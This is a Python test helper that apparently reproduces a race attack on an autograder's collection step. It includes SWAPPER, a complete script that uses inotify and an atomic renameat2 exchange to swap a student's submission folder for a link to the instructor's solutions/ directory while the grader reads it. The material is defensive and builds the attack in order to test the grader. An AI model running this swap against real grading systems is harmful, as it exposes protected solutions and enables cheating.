"""The walk's race on collect (December 2026, A1), for the tests: a student swaps her own
submission folder for a link to the instructor's `solutions/` at the moment the grader opens
its first file.

`exchange(a, b)` swaps two names at once, as `renameat2(RENAME_EXCHANGE)` does (glibc 2.28
and later; Linux 3.15). `SWAPPER` is the student's own script (`python3 SWAPPER FOLDER LINK
N`): it watches FOLDER with inotify and, at the Nth open of anything in it (the grader's
first file, after its looks at the folder), swaps FOLDER with LINK, then writes what it did
to FOLDER's parent in `swapped.txt`. Both use ctypes only: the student needs nothing
installed.
"""

from __future__ import annotations

import ctypes
import os

AT_FDCWD = -100  # <fcntl.h>
RENAME_EXCHANGE = 2  # <linux/fs.h>


def exchange(first: str | os.PathLike, second: str | os.PathLike) -> None:
    """Swap the names `first` and `second` in one step (both must exist)."""
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.renameat2(
        AT_FDCWD, os.fsencode(first), AT_FDCWD, os.fsencode(second), RENAME_EXCHANGE
    )
    if done != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), str(first))


SWAPPER = r"""
import ctypes, os, struct, sys, time
folder, link, nth = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
IN_OPEN = 0x20
fd = libc.inotify_init1(0)
if fd < 0 or libc.inotify_add_watch(fd, os.fsencode(folder), IN_OPEN) < 0:
    raise SystemExit("inotify: %s" % os.strerror(ctypes.get_errno()))
report = os.path.join(os.path.dirname(folder), "swapped.txt")
open(report, "w").write("watching\n")
opens = 0
while opens < nth:
    data = os.read(fd, 65536)
    offset = 0
    while offset < len(data):
        _, mask, _, size = struct.unpack_from("iIII", data, offset)
        offset += 16 + size
        opens += bool(mask & IN_OPEN)
done = libc.renameat2(-100, os.fsencode(folder), -100, os.fsencode(link), 2)
open(report, "a").write("open #%d: swapped (%d) at %.4f\n" % (opens, done, time.time()))
"""
